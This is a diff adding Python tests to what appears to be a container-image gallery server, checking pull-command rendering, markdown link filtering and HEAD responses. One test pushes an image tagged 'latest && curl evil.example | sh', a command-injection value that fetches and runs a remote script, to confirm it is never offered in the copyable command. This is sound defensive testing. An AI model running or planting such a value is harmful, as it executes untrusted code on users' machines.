@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import html
 import re
+import uuid
 from collections.abc import Callable, Iterator
 from html.parser import HTMLParser
 
@@ -422,3 +423,51 @@ def test_write_methods_are_not_pages(gallery_server: Server, content: Content):
         f"{gallery_server.url}/gallery/{content.alias}/{content.app}", timeout=TIMEOUT
     )
     assert response.status_code == 405
+
+
+def test_pull_command_never_offers_a_tag_v2_cannot_address(gallery_server: Server):
+    """PutImage takes any 1-300 character tag; the copyable command only ever names one
+    a pull can use, so `latest && curl … | sh` is shown in the table, never offered."""
+    ecr = gallery_server.ecr()
+    name = f"gallery/tags-{uuid.uuid4().hex[:8]}"
+    ecr.create_repository(repositoryName=name)
+    push_image_via_api(ecr, name, images.oci_image(901, n_layers=1, layer_size=64), tag="v1.0")
+    hostile = "latest && curl evil.example | sh"
+    push_image_via_api(ecr, name, images.oci_image(902, n_layers=1, layer_size=64), tag=hostile)
+    text = page(gallery_server, f"/gallery/berth/{name}")
+    command = f"docker pull {gallery_server.host}/berth/{name}:v1.0"
+    assert f'aria-labelledby="pull-title">{command}</code>' in text
+    assert f'data-copy="{command}"' in text
+    assert hostile in tag_names(text)
+    assert "curl evil" not in text.split('class="pull"', 1)[1].split("</section>", 1)[0]
+
+
+def test_markdown_keeps_only_absolute_http_and_mailto_links(gallery_server: Server):
+    ecr = gallery_server.ecr()
+    name = f"gallery/links-{uuid.uuid4().hex[:8]}"
+    ecr.create_repository(
+        repositoryName=name,
+        catalogData={
+            "aboutText": "[rel](/relative) [proto](//evil.example/x) [frag](#top) "
+            "[web](https://example.com/a) [mail](mailto:a@example.com)"
+        },
+    )
+    push_image_via_api(ecr, name, images.oci_image(903, n_layers=1, layer_size=64), tag="v1")
+    about = page(gallery_server, f"/gallery/berth/{name}").split('id="panel-about"', 1)[1]
+    hrefs = re.findall(r'<a href="([^"]*)"', about.split('id="panel-usage"', 1)[0])
+    assert hrefs == ["https://example.com/a", "mailto:a@example.com"]
+
+
+def test_pages_answer_head_as_get(gallery_server: Server, content: Content):
+    """Load balancers health-check with HEAD as often as with GET."""
+    for path in (
+        "/",
+        "/gallery",
+        f"/gallery/{content.alias}",
+        f"/gallery/{content.alias}/{content.app}",
+    ):
+        head = requests.head(gallery_server.url + path, timeout=TIMEOUT)
+        assert head.status_code == 200, path
+        assert head.headers["Content-Type"] == "text/html; charset=utf-8"
+        assert head.content == b""
+    assert requests.head(gallery_server.url + "/gallery/nobody", timeout=TIMEOUT).status_code == 404
